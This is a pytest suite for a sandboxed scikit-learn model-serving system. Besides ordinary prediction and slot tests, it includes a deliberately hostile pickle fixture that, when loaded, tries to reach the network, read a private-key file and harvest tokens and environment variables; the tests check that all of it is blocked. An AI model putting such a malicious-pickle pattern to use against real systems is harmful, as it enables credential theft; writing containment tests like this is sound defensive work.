"""Sandboxed model workers: real scikit-learn models, and a hostile pickle."""

from __future__ import annotations

import json
import os
import select
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import IO, Any

import pytest

import modelci
from modelci.deliver.modelspec import Column, ModelVersion, ServingSpec
from modelci.errors import PredictionFailed, WorkerFailed
from modelci.runner.sandbox import take_slot
from modelci.serving.launcher import Launcher
from modelci.serving.worker import ModelWorker
from tests.serving.conftest import (
    ENVS_DIR,
    NUMERIC,
    REQUIREMENTS,
    categorical_model,
    numeric_model,
    sandboxed,
)

pytestmark = [sandboxed, pytest.mark.sandbox, pytest.mark.slow]


@pytest.fixture
def started(launcher: Launcher) -> Iterator[list[ModelWorker]]:
    workers: list[ModelWorker] = []
    yield workers
    for worker in workers:
        worker.stop()


def test_numeric_model_predicts_like_in_process(
    launcher: Launcher, base_dir: Path, started: list[ModelWorker]
) -> None:
    import joblib
    import numpy as np

    model_dir = base_dir / "numeric"
    spec = numeric_model(model_dir, loader="pickle")
    worker = launcher.start("numeric", 1, model_dir, spec)
    started.append(worker)
    rows = np.random.default_rng(1).normal(size=(50, 4))
    columns = {name: rows[:, i].tolist() for i, name in enumerate(NUMERIC)}
    expected = joblib.load(model_dir / "model.joblib").predict(rows).tolist()
    assert worker.predict(columns, 50) == expected
    assert not worker.uses_frame  # fitted on an array: served from an array
    # The work dir (the private copy of the model) belongs to the sandbox's uid.
    work = worker.process.spec.workdir
    assert work.stat().st_uid != 0
    assert (work.stat().st_mode & 0o077) == 0


def test_categorical_pipeline_gets_a_dataframe(
    launcher: Launcher, base_dir: Path, started: list[ModelWorker]
) -> None:
    model_dir = base_dir / "categorical"
    spec = categorical_model(model_dir)
    worker = launcher.start("categorical", 1, model_dir, spec)
    started.append(worker)
    assert worker.uses_frame
    assert worker.predict({"colour": ["red", "blue", "green"], "size": [1.0, 2.0, 3.0]}, 3) == [
        1,
        0,
        0,
    ]


def test_model_errors_and_crashes(
    launcher: Launcher, base_dir: Path, started: list[ModelWorker]
) -> None:
    model_dir = base_dir / "errors"
    spec = numeric_model(model_dir)
    worker = launcher.start("errors", 1, model_dir, spec)
    started.append(worker)
    with pytest.raises(PredictionFailed, match="ValueError"):
        # Unvalidated input (the service validates first): numpy cannot convert it.
        worker.predict({name: ["abc"] for name in NUMERIC}, 1)
    assert worker.predict({name: [0.5] for name in NUMERIC}, 1) in ([0], [1])
    os.killpg(worker.process.pid, 9)
    # The model's process dies with bwrap (its parent-death signal), a moment later.
    for _ in range(100):
        try:
            worker.predict({name: [0.5] for name in NUMERIC}, 1)
        except WorkerFailed:
            break
        time.sleep(0.05)
    else:
        pytest.fail("the worker still answered after its sandbox was killed")
    assert worker.dead


def test_unloadable_artifact_is_reported(launcher: Launcher, base_dir: Path) -> None:
    model_dir = base_dir / "corrupt"
    spec = numeric_model(model_dir)
    (model_dir / "model.joblib").write_bytes(b"not a pickle")
    with pytest.raises(WorkerFailed, match="could not load the model"):
        launcher.start("corrupt", 1, model_dir, spec)


def test_a_slot_held_elsewhere_is_not_used(launcher: Launcher, base_dir: Path) -> None:
    # The one slot is held by someone else (another modelci process, for all the
    # launcher knows): the start is refused with the reason, nothing is reset.
    one_slot = replace(launcher, max_workers=1)
    model_dir = base_dir / "no-slot"
    spec = numeric_model(model_dir)
    held = take_slot(launcher.slots_dir, 1)
    assert held is not None
    try:
        with pytest.raises(WorkerFailed, match="every serving sandbox slot on this machine"):
            one_slot.start("no-slot", 1, model_dir, spec)
    finally:
        held.release()
    assert list((launcher.serving_dir).glob("no-slot-*")) == []  # its work dir went too


HOSTILE = """
import json, os, socket

PORT = {port}
SECRET = {secret!r}


class Hostile:
    def __init__(self):
        found = {{}}
        try:
            socket.create_connection(("127.0.0.1", PORT), timeout=2).send(b"stolen")
            found["network"] = "connected"
        except OSError as exc:
            found["network"] = "blocked: " + str(exc)
        try:
            with open(SECRET) as handle:
                found["secret"] = handle.read()
        except OSError as exc:
            found["secret"] = "blocked: " + str(exc)
        found["token"] = os.environ.get("MODELCI_GITHUB_TOKEN")
        found["environ"] = sorted(os.environ)
        found["uid"] = os.getuid()
        self.found = found

    def predict(self, rows):
        return [json.dumps(self.found)] * len(rows)


def load():
    return Hostile()
"""


def test_hostile_pickle_is_contained(
    launcher: Launcher,
    base_dir: Path,
    started: list[ModelWorker],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("MODELCI_GITHUB_TOKEN", "ghs_host_token_must_not_leak")
    secret = base_dir / "app-private-key.pem"
    secret.write_text("-----BEGIN PRIVATE KEY-----\nsecret\n")
    secret.chmod(0o600)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    port = listener.getsockname()[1]
    model_dir = base_dir / "hostile"
    (model_dir / "code").mkdir(parents=True)
    (model_dir / "code" / "hostile.py").write_text(HOSTILE.format(port=port, secret=str(secret)))
    # Unpickling calls hostile.load(): code runs on load, as with any pickle.
    (model_dir / "model.pkl").write_bytes(b"chostile\nload\n(tR.")
    spec = ServingSpec(
        loader="pickle",
        artifact="model.pkl",
        columns=(Column("x", "double"),),
        input_example=[{"x": 1.0}],
        code_paths=("code",),
        requirements=REQUIREMENTS,
    )
    spec.write(model_dir)
    worker = launcher.start("hostile", 1, model_dir, spec)
    started.append(worker)
    [report] = worker.predict({"x": [1.0]}, 1)
    found = json.loads(report)
    assert found["network"].startswith("blocked")
    assert found["secret"].startswith("blocked")
    assert found["token"] is None
    assert not [name for name in found["environ"] if "TOKEN" in name or "SECRET" in name]
    assert found["uid"] != 0
    # Nothing reached the listener: the attempt ended (blocked) before the worker
    # reported, and a connection that got through would already be queued on it.
    assert select.select([listener], [], [], 0)[0] == []
    listener.close()


class _NoModels:
    """A registry with nothing in it: the child drives its launcher by hand."""

    def model_names(self) -> list[str]:
        return []

    def champion(self, name: str) -> ModelVersion | None:
        return None


def serve_in_child(data_dir: str, model_dir: str) -> None:
    """One modelci process serving: ``serving_manager`` from default settings (default
    serving uid base), two workers, then a prediction on each per line on stdin."""
    from modelci.serving.manager import serving_manager
    from modelci.settings import Settings

    manager = serving_manager(Settings(data_dir=Path(data_dir)), _NoModels(), sessions=None)
    spec = ServingSpec.read(Path(model_dir))
    workers = [manager.launcher.start("numeric", v, Path(model_dir), spec) for v in (1, 2)]
    print(json.dumps({"slots": [w.process.spec.slot for w in workers]}), flush=True)
    row = {name: [0.5] for name in NUMERIC}
    for line in sys.stdin:
        if line.strip() != "predict":
            break
        answers = [w.predict(row, 1) for w in workers]
        alive = [w.process.poll() is None and not w.dead for w in workers]
        print(json.dumps({"answers": answers, "alive": alive}), flush=True)
    for worker in workers:
        worker.stop()


def _reply(child: subprocess.Popen[str], errors: Path) -> Any:
    assert child.stdout is not None
    line = child.stdout.readline()
    if not line:
        child.wait(10)
        pytest.fail(f"the child exited ({child.returncode}): {errors.read_text()[-3000:]}")
    return json.loads(line)


def _send(child: subprocess.Popen[str], text: str) -> None:
    stdin: IO[str] | None = child.stdin
    assert stdin is not None
    stdin.write(text + "\n")
    stdin.flush()


def test_two_processes_serving_do_not_kill_each_others_workers(base_dir: Path) -> None:
    # Serving slots (uid, cgroup) are machine-wide: a second modelci process (a demo
    # beside `modelci serve`) must take other slots, not reset the first's cgroups.
    model_dir = base_dir / "two-processes"
    numeric_model(model_dir)
    root = Path(__file__).resolve().parents[2]
    env = {**os.environ, "PYTHONPATH": f"{Path(modelci.__file__).parents[1]}:{root}"}
    env = {k: v for k, v in env.items() if not k.startswith("MODELCI_SERVING")}
    children: list[tuple[subprocess.Popen[str], Path]] = []
    try:
        for n in range(2):
            data = base_dir / f"instance-{n}"
            data.mkdir(mode=0o711)
            (data / "envs").symlink_to(ENVS_DIR)  # the fixtures' cached environment
            errors = base_dir / f"instance-{n}.stderr"
            code = "import sys; from tests.serving.test_worker import serve_in_child as s; "
            child = subprocess.Popen(
                [sys.executable, "-c", code + "s(*sys.argv[1:])", str(data), str(model_dir)],
                stdin=subprocess.PIPE,
                stdout=subprocess.PIPE,
                stderr=errors.open("w"),
                env=env,
                cwd=root,
                text=True,
            )
            children.append((child, errors))
        # Both started their workers at the same time; every start is over once
        # both said so, and a start that reset the other's cgroup killed its workers.
        slots = [set(_reply(child, errors)["slots"]) for child, errors in children]
        for _ in range(3):
            for child, _errors in children:
                _send(child, "predict")
            for child, errors in children:
                reply = _reply(child, errors)
                assert reply["alive"] == [True, True]
                assert all(answer in ([0], [1]) for answer in reply["answers"])
        assert not slots[0] & slots[1], slots  # so each worker has its own uid too
        for child, errors in children:
            _send(child, "stop")
            assert child.wait(30) == 0, errors.read_text()[-3000:]
    finally:
        for child, _errors in children:
            if child.poll() is None:
                child.kill()
                child.wait()
